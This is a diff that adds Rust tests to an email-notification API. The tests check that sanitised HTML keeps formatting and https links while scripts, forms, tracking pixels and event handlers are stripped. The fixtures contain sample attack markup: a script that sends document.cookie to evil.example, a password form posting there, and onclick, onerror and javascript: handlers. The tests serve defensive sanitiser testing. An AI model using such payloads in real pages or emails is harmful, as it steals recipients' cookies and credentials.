@@ -148,3 +148,69 @@ async fn recipients_left_when_the_send_budget_runs_out_are_reported_not_sent_and
         assert!(messages_to(address).await.is_empty(), "{address}");
     }
 }
+
+#[tokio::test]
+async fn notification_html_arrives_with_its_formatting_and_links_but_no_active_content_or_tracking() {
+    // Given a recipient, and markup that tries scripts, a form, a tracking pixel, a handler and
+    // a javascript: link next to ordinary formatting and an https link
+    let api = TestApi::new().await;
+    let acme = given_client(&api, &TestApi::admin("t1"), "Acme").await;
+    let emails = given_recipients(&api, &acme, &["Ada"]).await;
+    let html = "<h2>Invoice INV-9</h2><p>Dear <strong>Ada</strong>, see <a href=\"https://acme.example/inv/9\">your invoice</a>.</p>\
+        <script>document.location='https://evil.example/?c='+document.cookie</script>\
+        <form action=\"https://evil.example/collect\"><input name=\"password\"><button>Log in</button></form>\
+        <img src=\"http://tracker.example/pixel.gif?r=ada\">\
+        <p onclick=\"steal()\">Thanks</p><a href=\"javascript:steal()\">Pay now</a>";
+    let body = json!({ "topic": "invoice", "subject": "Invoice INV-9", "text": "Ready.", "html": html });
+
+    // When it is sent
+    let res = api.post(&TestApi::admin("t1"), &format!("/clients/{acme}/notifications"), body).await;
+
+    // Then what arrives keeps the formatting and the https link, and none of the rest
+    assert_eq!(res.status, 202, "{}", res.body);
+    let mail = messages_to(&emails[0]).await;
+    let delivered = mail[0]["body"]["html"].as_str().expect("an HTML part");
+    for kept in [
+        "<h2>Invoice INV-9</h2>",
+        "<strong>Ada</strong>",
+        "<a href=\"https://acme.example/inv/9\" rel=\"noopener noreferrer\">your invoice</a>",
+        "<p>Thanks</p>",
+        "Pay now",
+    ] {
+        assert!(delivered.contains(kept), "{kept} arrived: {delivered}");
+    }
+    for dropped in [
+        "<script",
+        "document.cookie",
+        "<form",
+        "<input",
+        "<button",
+        "<img",
+        "tracker.example",
+        "onclick",
+        "javascript:",
+    ] {
+        assert!(!delivered.contains(dropped), "{dropped} did not arrive: {delivered}");
+    }
+}
+
+#[tokio::test]
+async fn remote_images_arrive_only_where_they_are_allowed() {
+    // Given a platform configured to allow remote images (EMAIL_ALLOW_REMOTE_IMAGES=true)
+    let mut api = TestApi::new().await;
+    api.app.email.allow_remote_images = true;
+    let acme = given_client(&api, &TestApi::admin("t1"), "Acme").await;
+    let emails = given_recipients(&api, &acme, &["Ada"]).await;
+    let html = "<p>Our logo</p><img src=\"https://acme.example/logo.png\" alt=\"Acme\" onerror=\"steal()\">";
+    let body = json!({ "topic": "invoice", "subject": "Logo", "text": "Logo.", "html": html });
+
+    // When a notification with an image is sent
+    let res = api.post(&TestApi::admin("t1"), &format!("/clients/{acme}/notifications"), body).await;
+
+    // Then the image arrives, without its handler
+    assert_eq!(res.status, 202, "{}", res.body);
+    let mail = messages_to(&emails[0]).await;
+    let delivered = mail[0]["body"]["html"].as_str().expect("an HTML part");
+    assert!(delivered.contains("<img src=\"https://acme.example/logo.png\" alt=\"Acme\">"), "{delivered}");
+    assert!(!delivered.contains("onerror"), "{delivered}");
+}
